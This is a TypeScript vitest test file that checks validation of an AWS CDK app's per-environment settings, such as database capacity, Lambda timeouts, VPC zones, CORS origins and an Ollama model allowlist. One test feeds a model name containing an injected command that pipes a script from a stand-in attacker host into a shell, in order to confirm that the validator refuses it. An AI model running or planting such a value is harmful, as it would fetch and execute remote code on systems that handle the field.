import { App, Token } from "aws-cdk-lib";
import { describe, expect, it } from "vitest";
import { ExecutorSettingsSchema } from "../../functions/core/config/settings";
import { SettingsError } from "../../functions/core/errors";
import { executorTimeoutSeconds } from "../../lib/config/environmentSettings";
import { loadEnvironment } from "../../lib/config/loadEnvironment";
import { checkRuntimeSettings } from "../../lib/lambda/checkRuntimeSettings";
import { addTaskPipeline } from "../../lib/pipelineApp";
import { cdkJsonContext, ENVIRONMENT_NAMES, type SettingsJson } from "./support/synth";

/** cdk.json's environments with one environment edited. */
function environmentsWith(name: string, edit: (settings: SettingsJson) => void): SettingsJson {
  const environments = cdkJsonContext().environments as SettingsJson;
  edit(environments[name]);
  return environments;
}

/** The SettingsError message loadEnvironment throws (fails the test if it does not throw). */
function failureOf(environments: unknown, name: unknown): string {
  try {
    loadEnvironment(environments, name);
  } catch (error) {
    expect(error).toBeInstanceOf(SettingsError);
    return (error as Error).message;
  }
  throw new Error("expected loadEnvironment to fail");
}

describe("cdk.json environments", () => {
  it("holds dev, staging, prod and localstack, each valid", () => {
    // Prepare
    const environments = cdkJsonContext().environments as SettingsJson;

    // Act
    const loaded = ENVIRONMENT_NAMES.map((name) => loadEnvironment(environments, name));

    // Assess
    expect(Object.keys(environments).sort()).toEqual([...ENVIRONMENT_NAMES].sort());
    expect(loaded.map((environment) => environment.name)).toEqual([...ENVIRONMENT_NAMES]);
  });

  it("names a bad setting by its full path, with the value it got", () => {
    // Prepare
    const environments = environmentsWith("prod", (prod) => {
      prod.database.maxCapacity = 512;
    });

    // Act
    const message = failureOf(environments, "prod");

    // Assess
    expect(message).toContain(
      "environments.prod.database.maxCapacity must be at most 256 ACU (got 512)",
    );
  });

  it("names a missing setting", () => {
    // Prepare
    const environments = environmentsWith("dev", (dev) => {
      delete dev.api.corsOrigins;
    });

    // Act
    const message = failureOf(environments, "dev");

    // Assess
    expect(message).toContain("environments.dev.api.corsOrigins is required");
  });

  it("refuses a misspelt setting instead of silently using a default", () => {
    // Prepare
    const environments = environmentsWith("staging", (staging) => {
      staging.executor.leaseSecnds = 30;
    });

    // Act
    const message = failureOf(environments, "staging");

    // Assess
    expect(message).toContain("environments.staging.executor has unknown setting(s) leaseSecnds");
  });

  it("lists the known environments for an unknown name, and asks for one when none is given", () => {
    // Prepare
    const environments = cdkJsonContext().environments;

    // Act
    const unknown = failureOf(environments, "qa");
    const missing = failureOf(environments, undefined);

    // Assess
    expect(unknown).toBe(
      'unknown environment "qa": cdk.json\'s context.environments has dev, localstack, prod, staging',
    );
    expect(missing).toContain("pass -c env=NAME, one of dev, localstack, prod, staging");
  });

  it("derives the executor timeout from the claim window and the LLM timeout, and refuses one over Lambda's 900 s", () => {
    // Prepare
    const environments = environmentsWith("dev", (dev) => {
      dev.ollama.llmTimeoutMs = 840_000;
    });

    // Act
    const message = failureOf(environments, "dev");

    // Assess
    expect(
      executorTimeoutSeconds({
        executor: { claimWindowSeconds: 60 },
        ollama: { llmTimeoutMs: 120_000 },
      }),
    ).toBe(190);
    expect(message).toContain(
      "environments.dev.ollama.llmTimeoutMs makes the executor's Lambda timeout 910 s",
    );
  });

  it("refuses interface endpoints in more AZs than the VPC has, and a VPC of one AZ (Aurora needs two)", () => {
    // Act
    const tooMany = failureOf(
      environmentsWith("dev", (dev) => {
        dev.network.endpointAzs = 3;
      }),
      "dev",
    );
    const oneAz = failureOf(
      environmentsWith("dev", (dev) => {
        dev.network = { maxAzs: 1 };
      }),
      "dev",
    );

    // Assess
    expect(tooMany).toContain("environments.dev.network.endpointAzs");
    expect(tooMany).toContain("must be at most maxAzs (2)");
    expect(oneAz).toContain("environments.dev.network.maxAzs");
  });

  it("bounds Ollama's context length, naming the setting", () => {
    // Prepare
    const environments = environmentsWith("dev", (dev) => {
      dev.ollama.contextLength = 1_000;
    });

    // Act
    const message = failureOf(environments, "dev");

    // Assess
    expect(message).toContain("environments.dev.ollama.contextLength");
    expect(message).toContain("1000");
  });

  it("bounds the idle stop minutes, naming the setting, and reads absent as never", () => {
    // Prepare
    const bad = environmentsWith("dev", (dev) => {
      dev.ollama.idleStopMinutes = 2_000;
    });
    const absent = environmentsWith("dev", (dev) => {
      delete dev.ollama.idleStopMinutes;
    });

    // Act
    const message = failureOf(bad, "dev");
    const { settings } = loadEnvironment(absent, "dev");

    // Assess
    expect(message).toContain("environments.dev.ollama.idleStopMinutes");
    expect(message).toContain("2000");
    expect(settings.ollama).toMatchObject({ mode: "instance", idleStopMinutes: 0 });
    const shorterThanACall = failureOf(
      environmentsWith("dev", (dev) => {
        dev.ollama.idleStopMinutes = 2;
        dev.ollama.llmTimeoutMs = 180_000;
      }),
      "dev",
    );
    expect(shorterThanACall).toContain("environments.dev.ollama.idleStopMinutes");
    expect(shorterThanACall).toContain("longer than one LLM call");
  });

  it("requires reserved concurrency, when set, to cover the invocations that overlap", () => {
    // Prepare: prod's executor runs 60 + 300 + 10 = 370 s, started every 60 s: 7 at once.
    const environments = environmentsWith("prod", (prod) => {
      prod.executor.reservedConcurrency = 6;
    });

    // Act
    const message = failureOf(environments, "prod");

    // Assess
    expect(message).toContain("environments.prod.executor.reservedConcurrency must be at least 7");
  });

  it("requires the default model in the allowlist and refuses model names that are not names", () => {
    // Prepare
    const notAllowed = environmentsWith("dev", (dev) => {
      dev.ollama.defaultModel = "mistral";
    });
    const injected = environmentsWith("dev", (dev) => {
      dev.ollama.models = ["llama3.2", "x; curl evil.example | sh"];
    });

    // Act
    const notAllowedMessage = failureOf(notAllowed, "dev");
    const injectedMessage = failureOf(injected, "dev");

    // Assess
    expect(notAllowedMessage).toContain(
      "environments.dev.ollama.models must include defaultModel (mistral)",
    );
    expect(injectedMessage).toContain("environments.dev.ollama.models.1 must be a model name");
  });

  it("refuses an origin with a path and a privateLink service name that is not one", () => {
    // Prepare
    const badOrigin = environmentsWith("prod", (prod) => {
      prod.api.corsOrigins = ["https://tasks.example.com/app"];
    });
    const badService = environmentsWith("prod", (prod) => {
      prod.ollama.endpointServiceName = "my-ollama";
    });

    // Act
    const originMessage = failureOf(badOrigin, "prod");
    const serviceMessage = failureOf(badService, "prod");

    // Assess
    expect(originMessage).toContain("environments.prod.api.corsOrigins.0 must be an origin");
    expect(serviceMessage).toContain(
      "environments.prod.ollama.endpointServiceName must be an endpoint service name",
    );
  });

  it("stops the CDK app before any resource is built when a setting is bad", () => {
    // Prepare
    const context = cdkJsonContext();
    (context.environments as SettingsJson).staging.database.minCapacity = 0.3;
    const app = new App({ context: { ...context, env: "staging" } });

    // Act
    const build = () => addTaskPipeline(app);

    // Assess
    expect(build).toThrow(SettingsError);
    expect(build).toThrow(
      "environments.staging.database.minCapacity must be a multiple of 0.5 ACU",
    );
    expect(app.node.children).toHaveLength(0);
  });
});

describe("checkRuntimeSettings", () => {
  it("refuses an environment the Lambda's own settings schema would refuse at cold start", () => {
    // Prepare
    const environment = {
      MAX_CONCURRENCY: "0",
      FAILED_TASKS_QUEUE_URL: Token.asString({ Ref: "Queue" }),
    };

    // Act
    const check = () => checkRuntimeSettings("executor", environment, [ExecutorSettingsSchema]);

    // Assess
    expect(check).toThrow("the executor Lambda would refuse its environment");
    expect(check).toThrow("MAX_CONCURRENCY must be at least 1");
  });

  it("leaves out deploy-time values (tokens) and accepts the rest", () => {
    // Prepare: a token is not a URL yet; the check must not judge it.
    const environment = {
      MAX_CONCURRENCY: "4",
      FAILED_TASKS_QUEUE_URL: Token.asString({ Ref: "Queue" }),
    };

    // Act
    const check = () => checkRuntimeSettings("executor", environment, [ExecutorSettingsSchema]);

    // Assess
    expect(check).not.toThrow();
  });
});
